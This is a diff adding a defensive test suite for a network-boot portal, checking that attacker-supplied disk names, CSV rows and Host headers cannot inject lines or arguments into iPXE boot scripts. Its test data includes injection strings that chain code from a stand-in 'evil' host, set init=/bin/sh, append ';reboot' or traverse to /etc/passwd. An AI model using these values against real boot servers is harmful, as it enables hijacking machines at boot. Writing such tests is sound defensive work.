@@ -1,0 +1,81 @@
+/**
+ * The lab network as an attacker on it sees the portal: someone who knows every MAC and can send
+ * anything to every port. Each probe against a real portal and storage node (SQLite), and each
+ * refused; the boot scripts and keys they aim at are read back to show nothing got through.
+ * Needs root for the source disk's loop devices.
+ */
+import { suite } from 'uvu';
+import * as assert from 'uvu/assert';
+import { request } from 'node:http';
+import { join } from 'node:path';
+import { cleanup, makeDisk, workDir } from './fixtures.js';
+import { shoalOk } from './cli.js';
+import { killAll, startLabProcesses, stopLab, type Lab } from './processes.js';
+import { call, expectError, login } from './portal-http.js';
+
+const ADMIN_PASSWORD = 'correct horse battery';
+const T = suite<{ lab: Lab; base: string; admin: string; dir: string }>('trust on the lab network');
+
+/** A GET with a Host header fetch() would not send as it is. */
+function getWithHost(base: string, path: string, host: string): Promise<{ status: number; body: string }> {
+  const u = new URL(base);
+  return new Promise((resolve, reject) => {
+    const req = request({ host: u.hostname, port: u.port, path, headers: { host } }, (res) => {
+      let body = '';
+      res.on('data', (c) => (body += c));
+      res.on('end', () => resolve({ status: res.statusCode!, body }));
+    });
+    req.on('error', reject);
+    req.end();
+  });
+}
+
+T.before(async (ctx) => {
+  ctx.dir = workDir();
+  const store = join(ctx.dir, 'store');
+  const disk = makeDisk(ctx.dir, 'src.img', 48, 'gpt', [{ sizeMiB: 24, fs: 'ext4', name: 'root' }], 2);
+  shoalOk('capture', '--disk', disk.path, '--store', store, '--image', 'lab', '--type', 'multipart');
+  process.env.SHOAL_ADMIN_PASSWORD = ADMIN_PASSWORD;
+  ctx.lab = await startLabProcesses(join(ctx.dir, 'lab'), [store], [], 1);
+  delete process.env.SHOAL_ADMIN_PASSWORD;
+  ctx.base = ctx.lab.portal.url;
+  ctx.admin = await login(ctx.base, 'admin', ADMIN_PASSWORD);
+});
+T.after(async (ctx) => {
+  await stopLab(ctx.lab);
+});
+
+T('boot hijack: a disk, name or Host header that would add a line or an argument to a boot script is refused; a PC cannot change what the admin set', async ({ base, admin }) => {
+  const mac = '52:54:00:7a:00:01';
+  for (const disk of ['/dev/sda\nchain http://evil/x', '/dev/sda quiet init=/bin/sh', '/dev/../etc/passwd', 'sda', '/dev/sda;reboot', '/dev/${net0/mac}']) {
+    expectError(await call(base, 'POST', '/api/v1/hosts/register', { body: { mac, disk } }), 400, /disk: a device under \/dev/, `a PC registering with disk ${JSON.stringify(disk)}`);
+    expectError(await call(base, 'POST', '/api/v1/hosts', { as: admin, body: { mac, disk } }), 400, /disk: a device under \/dev/, `an admin adding a host with disk ${JSON.stringify(disk)}`);
+  }
+  expectError(await call(base, 'POST', '/api/v1/hosts/import', { as: admin, csv: `mac,disk\n${mac},"/dev/sda\nchain http://evil/x"\n` }), 400, /CSV line 2: disk: a device under \/dev/, 'a CSV row with a newline in its disk');
+  assert.is((await call(base, 'POST', '/api/v1/hosts', { as: admin, body: { mac, name: 'pc-1', disk: '/dev/disk/by-id/ata-Samsung_SSD_860_S3Z1-part1' } })).status, 201, 'a by-id path is a disk');
+  const task = (await call(base, 'POST', '/api/v1/tasks', { as: admin, body: { kind: 'deploy', image: 'lab', hosts: [mac] } })).body;
+  const script = (await call(base, 'GET', `/boot/ipxe?mac=${mac}`)).body as string;
+  const key = /shoal\.key=(\S+)/.exec(script)![1]!;
+  // With the key anyone gets by asking with the MAC, the PC still cannot touch what the admin set.
+  for (const change of [{ disk: '/dev/sdb' }, { name: 'other' }, { group: 'x' }, { image: 'lab' }]) {
+    const r = await call(base, 'POST', '/api/v1/hosts/register', { as: key, body: { mac, ...change } });
+    assert.ok(r.status === 403 || r.status === 400, `a PC changing ${Object.keys(change)[0]}: ${JSON.stringify(r.body)}`);
+  }
+  expectError(await call(base, 'PATCH', `/api/v1/hosts/${mac}`, { as: admin, body: { disk: '/dev/sda chain' } }), 400, /disk: a device under \/dev/, 'an admin changing the disk to two words');
+  const after = (await call(base, 'GET', `/boot/ipxe?mac=${mac}`)).body as string;
+  assert.match(after, /shoal\.disk=\/dev\/disk\/by-id\/ata-Samsung_SSD_860_S3Z1-part1 console=/, 'the boot script keeps the admin\'s disk');
+  assert.equal(after.split('\n').filter((l) => /^(kernel|chain|initrd|imgfetch|imgexec)\b/.test(l)).map((l) => l.split(' ')[0]), ['kernel', 'initrd'], `only the script's own commands:\n${after}`);
+  const hijack = await getWithHost(base, `/boot/ipxe?mac=${mac}`, 'portal initrd=http://evil/x');
+  assert.is(hijack.status, 400, `a Host header with a space: ${hijack.body}`);
+  assert.match(hijack.body, /not a host name or address/);
+  await call(base, 'POST', `/api/v1/tasks/${task.id}/cancel`, { as: admin });
+});
+
+T.run();
+
+const end = suite('trust: teardown');
+end('stop everything', async () => {
+  await killAll();
+  cleanup();
+});
+end.run();
